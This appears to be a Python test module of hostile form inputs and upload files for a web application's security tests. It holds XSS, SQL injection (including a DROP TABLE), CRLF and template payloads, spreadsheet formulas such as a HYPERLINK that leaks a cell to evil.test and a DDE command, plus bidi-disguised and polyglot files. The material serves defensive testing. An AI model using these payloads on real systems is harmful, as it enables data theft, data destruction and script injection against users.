"""Hostile input, shared by the tests of tests/security/: text, dates, choices and files that
people who mean harm (or a confused keyboard) send to forms.

Every HTML/JS payload carries MARKER, so a page that renders one as markup is found by looking
for the marker in a script, an event handler or a `javascript:` link (checks.py), not by
guessing how the page escapes it.
"""

from hypothesis import strategies as st

MARKER = "XSS7f3a"

SCRIPT = f'<script>alert("{MARKER}")</script>'
IMG_ONERROR = f'"><img src=x onerror=alert("{MARKER}")>'
JS_LINK = f"javascript:alert('{MARKER}')"
A_JS_LINK = f"<a href=\"javascript:alert('{MARKER}')\">clic</a>"
SVG_ONLOAD = f'<svg onload=alert("{MARKER}")></svg>'
ATTRIBUTE_BREAK = f"' autofocus onfocus='alert(\"{MARKER}\")' x='"
HTML_PAYLOADS = [SCRIPT, IMG_ONERROR, JS_LINK, A_JS_LINK, SVG_ONLOAD, ATTRIBUTE_BREAK]

SQL_PAYLOADS = [
    "' OR 1=1--",
    "'; DROP TABLE casework_case;--",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
]
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
]
TEMPLATE_PAYLOADS = ["{{ 7|add:7 }}", "{% debug %}", "%s%s%s%n", "${7*7}"]

# Controls, NUL, and the bidi overrides that make a file name or a name read backwards.
NUL = "\x00"
CONTROL_PAYLOADS = [
    f"abc{NUL}def",
    NUL,
    "\x01\x07\x08\x1b[31m\x7f",
    "line\r\nInjected-Header: yes",
    "\u202eevil.pdf\u202dexe.",
    "\u2066\u05d0\u2069 \u2067abc\u2069\u200f",
    "\ufeff\u200b\u200d",
]
MIXED_SCRIPTS = [
    "Hafsa حفصة ⵃⴰⴼⵚⴰ",
    "ⵜⵉⵡⵉⵣⵉ تيويزي Tiwizi",
    "مرحبا <b>bonjour</b> ⴰⵣⵓⵍ",
]
LONG_PAYLOADS = ["A" * 10_000, "ⵣ" * 10_000, ("ح<" * 5_000)]

NAMED_TEXT = (
    HTML_PAYLOADS
    + SQL_PAYLOADS
    + FORMULA_PAYLOADS
    + TEMPLATE_PAYLOADS
    + CONTROL_PAYLOADS
    + MIXED_SCRIPTS
    + LONG_PAYLOADS
)

MALFORMED_DATES = [
    "2026-02-30",
    "2026-02-31",
    "31/13/2026",
    "2026-13-01",
    "0000-00-00",
    "9999-99-99",
    "2026-01-01;DROP TABLE casework_case;--",
    "1e10",
    "-1",
    "2026-1-1T25:61",
    "",
    "a" * 300,
    "2026\x00-01-01",
]


def hostile_text(max_size=200):
    """Text a form should survive: one of the named payloads, random text (every Unicode category
    but lone surrogates, which no browser can send), or a few of both joined."""
    piece = st.one_of(st.sampled_from(NAMED_TEXT), st.text(max_size=40))
    return st.one_of(
        st.sampled_from(NAMED_TEXT),
        st.text(max_size=max_size),
        st.lists(piece, min_size=2, max_size=4).map("".join),
    )


def hostile_date():
    return st.one_of(st.sampled_from(MALFORMED_DATES), st.text(max_size=30), st.dates().map(str))


# Past 64 bits: SQLite's OverflowError in an `IN (…)` or a page type's primary key (cms/forms.py).
HUGE_ID = "99999999999999999999"


def hostile_choice(valid=()):
    """A choice or an id: a valid one, or anything else."""
    others = st.one_of(
        st.sampled_from(
            [
                "",
                "0",
                "-1",
                "999999999",
                HUGE_ID,
                "1 OR 1=1",
                "' OR 1=1--",
                NUL,
                "[]",
            ]
        ),
        st.text(max_size=20),
        st.integers().map(str),
    )
    return st.one_of(st.sampled_from(list(valid)), others) if valid else others


def maybe_hostile(base, strategy):
    """The field's valid value, or a hostile one: forms get both accepted and refused posts."""
    return st.one_of(st.just(base), strategy)


# --- Files ---------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
POLYGLOT = (
    b"%PDF-1.4\n%<html><body><script>alert('"
    + MARKER.encode()
    + b"')</script></body></html>\n"
    + PDF[9:]
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert('" + MARKER.encode() + b"')</script></svg>"
)
HTML = b"<!DOCTYPE html><html><script>alert('" + MARKER.encode() + b"')</script></html>"

# name, content: files every upload must refuse. The oversized one is built by `oversized()`
# for each form's own limit.
REFUSED_FILES = {
    "exe_renamed_pdf": ("rapport.pdf", EXE),
    "polyglot_pdf_html": ("plan.pdf", POLYGLOT),
    "svg_with_script": ("logo.svg", SVG),
    "svg_renamed_png": ("logo.png", SVG),
    "html_renamed_pdf": ("lettre.pdf", HTML),
    "zero_bytes": ("vide.pdf", b""),
    "bidi_disguised_exe": ("facture\u202efdp.exe", EXE),
}
ACCEPTED_FILES = {"pdf": ("plan.pdf", PDF), "png": ("photo.png", PNG)}


def oversized(limit):
    """A real PDF one byte over `limit`."""
    return ("gros.pdf", PDF + b"0" * (limit + 1 - len(PDF)))


def refused_files(limit):
    """REFUSED_FILES and a file one byte over `limit`, by kind."""
    return {**REFUSED_FILES, "oversized": oversized(limit)}


def hostile_file():
    """(name, content): a refused kind, an accepted kind under a hostile name, or random bytes."""
    return st.one_of(
        st.sampled_from(sorted(REFUSED_FILES.values())),
        st.tuples(
            st.one_of(st.sampled_from(NAMED_TEXT), st.text(min_size=1, max_size=60)).map(
                lambda name: (name.replace(NUL, "") or "x")[:200] + ".pdf"
            ),
            st.just(PDF),
        ),
        st.tuples(st.just("random.pdf"), st.binary(max_size=4096)),
    )
